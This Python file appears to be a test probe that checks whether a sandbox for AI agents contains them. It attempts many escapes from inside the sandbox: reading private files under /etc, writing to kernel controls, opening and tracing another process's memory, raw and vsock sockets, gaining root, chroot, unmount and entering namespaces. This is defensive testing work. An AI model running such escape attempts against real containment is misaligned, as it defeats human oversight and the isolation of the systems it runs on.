"""Attacks a sandbox from inside in more ways than `taskbeacon agents --check`, whose program and driver it shares.

It runs with the standard library and that program only (`write_program`).
"""

import ctypes
import os
import platform
import signal
import socket
import stat
import struct
from pathlib import Path

from app.agents.inspection.sandbox_probe import (
    ATTEMPTS,
    IPC_STAT,
    IPC_STAT_BYTES,
    LIBC,
    PRIVILEGES,
    Targets,
    any_of,
    ask,
    attempt,
    main,
    require,
    require_found,
)

LIBC.shmat.restype = ctypes.c_void_p
LIBC.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
LIBC.shmdt.argtypes = [ctypes.c_void_p]
FAILED = ctypes.c_void_p(-1).value
# Numbers of calls without a function in the C library; the same on all machines, and by machine.
LANDLOCK_CREATE_RULESET, IO_URING_SETUP, CLONE3 = 444, 425, 435
NUMBERS = {
    "x86_64": {
        "clone": 56,
        "ioprio_set": 251,
        "mq_open": 240,
        "mq_unlink": 241,
        "sched_setattr": 314,
        "semtimedop": 220,
    },
    "aarch64": {
        "clone": 220,
        "ioprio_set": 30,
        "mq_open": 180,
        "mq_unlink": 181,
        "sched_setattr": 274,
        "semtimedop": 192,
    },
}.get(platform.machine(), {})
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
CLONE_NEWUSER = 0x10000000
MNT_DETACH = 2
IPC_PRIVATE, IPC_CREAT, IPC_EXCL, IPC_NOWAIT, IPC_RMID = 0, 0o1000, 0o2000, 0o4000, 0
SEM_GETVAL, SHM_RDONLY = 12, 0o10000
SCHED_ATTR_BYTES, SCHED_IDLE = 48, 5
IOPRIO_WHO_PROCESS, IOPRIO_LAST = 1, 2 << 13 | 7  # the best-effort class, its last priority
AF_VSOCK = 40
IPPROTO_MPTCP = 262
LARGE = 16 * 2**20


def call(name: str, *arguments: object) -> int:
    """Call the kernel; fails on a machine whose numbers are not known."""
    return int(LIBC.syscall(NUMBERS.get(name, -1), *arguments))


@attempt("list folders of the service")
def _(targets: Targets) -> None:
    require_found(list(Path(targets["file"]).parent.iterdir()))


@attempt("read private files below /etc", "private")
def _(targets: Targets) -> None:
    Path(targets["private"]).read_bytes()


@attempt("write files of the system elsewhere")
def _(_targets: Targets) -> None:
    def write(folder: str) -> None:
        path = f"{folder}/taskbeacon-escaped"
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
        os.unlink(path)  # noqa: PTH108 - no pathlib for what was opened without it

    any_of(*(lambda folder=folder: write(folder) for folder in ("/etc", "/", "/run", "/dev")))


@attempt("write to switches of the kernel")
def _(_targets: Targets) -> None:
    switches = (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sysrq-trigger",
        "/dev/mem",
    )
    any_of(*(lambda path=path: os.close(os.open(path, os.O_WRONLY)) for path in switches))


@attempt("open the service's memory")
def _(targets: Targets) -> None:
    os.close(os.open(f"/proc/{targets['pid']}/mem", os.O_RDWR))


@attempt("enter the service's root folder")
def _(targets: Targets) -> None:
    require_found(list(Path(f"/proc/{targets['pid']}/root").iterdir()))


@attempt("use descriptors of the service")
def _(_targets: Targets) -> None:
    names = [str(path.readlink()) for path in Path("/proc/self/fd").iterdir() if path.exists()]
    # The built-in agent gives each step its text by a file in memory.
    own = ("/dev/null", "/proc/", "pipe:", "/memfd:step")
    require_found([name for name in names if not name.startswith(own)])


@attempt("slow the service down")
def _(targets: Targets) -> None:
    pid = int(targets["pid"])
    idle = struct.pack("=IIQiIQQQ", SCHED_ATTR_BYTES, SCHED_IDLE, 0, 0, 0, 0, 0, 0)
    any_of(
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid)),
        lambda: os.sched_setparam(pid, os.sched_param(0)),
        lambda: os.sched_setscheduler(pid, SCHED_IDLE, os.sched_param(0)),
        lambda: require(call("sched_setattr", pid, idle, 0)),
        lambda: require(call("ioprio_set", IOPRIO_WHO_PROCESS, pid, IOPRIO_LAST)),
    )


@attempt("trace the service")
def _(targets: Targets) -> None:
    require(LIBC.ptrace(PTRACE_SEIZE, int(targets["pid"]), None, None))
    LIBC.ptrace(PTRACE_DETACH, int(targets["pid"]), None, None)


@attempt("connect to ports by another protocol")
def _(targets: Targets) -> None:
    ask(socket.socket(proto=IPPROTO_MPTCP), ("127.0.0.1", int(targets["port"])))


@attempt("reach other machines", "public")
def _(targets: Targets) -> None:
    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(b"x", (targets["public"], 53))

    any_of(send, lambda: socket.getaddrinfo(f"{targets['secret']}.example.com", 80))


@attempt("open raw sockets")
def _(_targets: Targets) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attempt("reach the host of a virtual machine")
def _(_targets: Targets) -> None:
    socket.socket(AF_VSOCK, socket.SOCK_STREAM).close()


@attempt("find others' System V memory", "segment")
def _(targets: Targets) -> None:
    require(LIBC.shmget(int(targets["segment"]), 0, 0))


@attempt("attach others' System V memory by id", "segment_id")
def _(targets: Targets) -> None:
    at = LIBC.shmat(int(targets["segment_id"]), None, SHM_RDONLY)
    require(-1 if at == FAILED else 0)
    LIBC.shmdt(at)


@attempt("use others' System V queues by id", "queue_id")
def _(targets: Targets) -> None:
    queue, message = int(targets["queue_id"]), ctypes.create_string_buffer(struct.pack("@l", 1) + b"?")
    any_of(
        lambda: require(LIBC.msgctl(queue, IPC_STAT, ctypes.create_string_buffer(IPC_STAT_BYTES))),
        lambda: require(LIBC.msgsnd(queue, message, 1, IPC_NOWAIT)),
        lambda: require(LIBC.msgrcv(queue, message, 1, 0, IPC_NOWAIT)),
    )


@attempt("use others' System V semaphores by id", "semaphore_id")
def _(targets: Targets) -> None:
    semaphore, rise = int(targets["semaphore_id"]), struct.pack("=Hhh", 0, 1, IPC_NOWAIT)
    any_of(
        lambda: require(LIBC.semctl(semaphore, 0, SEM_GETVAL)),
        lambda: require(LIBC.semop(semaphore, rise, 1)),
        lambda: require(LIBC.semtimedop(semaphore, rise, 1, None)),
    )


@attempt("hide memory in System V memory")
def _(_targets: Targets) -> None:
    segment = LIBC.shmget(IPC_PRIVATE, LARGE, IPC_CREAT | 0o600)
    require(segment)
    LIBC.shmctl(segment, IPC_RMID, None)


@attempt("hide memory in System V queues")
def _(_targets: Targets) -> None:
    def make_queue() -> None:
        queue = LIBC.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
        require(queue)
        LIBC.msgctl(queue, IPC_RMID, None)

    def make_semaphore() -> None:
        semaphore = LIBC.semget(IPC_PRIVATE, 1, IPC_CREAT | 0o600)
        require(semaphore)
        LIBC.semctl(semaphore, 0, IPC_RMID)

    any_of(make_queue, make_semaphore)


@attempt("hide memory in rules of Landlock", "landlock")
def _(_targets: Targets) -> None:
    handled = struct.pack("=QQ", 0, 1)  # files, network
    rules = LIBC.syscall(LANDLOCK_CREATE_RULESET, handled, len(handled), 0)
    require(rules)
    os.close(rules)


@attempt("open others' message queues", "queue")
def _(targets: Targets) -> None:
    def open_queue() -> None:
        queue = call("mq_open", targets["queue"].encode(), os.O_RDWR, 0, None)
        require(queue)
        os.close(queue)

    # The last way removes it.
    any_of(open_queue, lambda: require(call("mq_unlink", targets["queue"].encode())))


@attempt("call the kernel by io_uring")
def _(_targets: Targets) -> None:
    ring = LIBC.syscall(IO_URING_SETUP, 1, ctypes.create_string_buffer(256))
    require(ring)
    os.close(ring)


@attempt("make devices")
def _(_targets: Targets) -> None:
    os.mknod("device", stat.S_IFBLK | 0o600, os.makedev(7, 0))


@attempt("unmount folders of the system")
def _(_targets: Targets) -> None:
    require(LIBC.umount2(b"/proc", MNT_DETACH))


@attempt("become root")
def _(targets: Targets) -> None:
    os.setresuid(0, 0, 0)
    ATTEMPTS[PRIVILEGES][0](targets)  # a worker that is root has agents that are, but without capabilities


# From here on an attempt that succeeds changes this process.
@attempt("change the root folder")
def _(_targets: Targets) -> None:
    os.chroot(Path.cwd())


@attempt("enter namespaces of the service")
def _(targets: Targets) -> None:
    require(LIBC.setns(os.open(f"/proc/{targets['pid']}/ns/net", os.O_RDONLY), 0))


@attempt("make a user namespace")
def _(_targets: Targets) -> None:
    described = struct.pack("=8Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)

    def fork(code: int) -> None:
        if code == 0:
            os._exit(0)
        require(code)
        os.waitpid(code, 0)

    any_of(
        lambda: fork(call("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)),
        lambda: fork(LIBC.syscall(CLONE3, described, len(described))),
        lambda: require(LIBC.unshare(CLONE_NEWUSER)),
    )


if __name__ == "__main__":
    main()
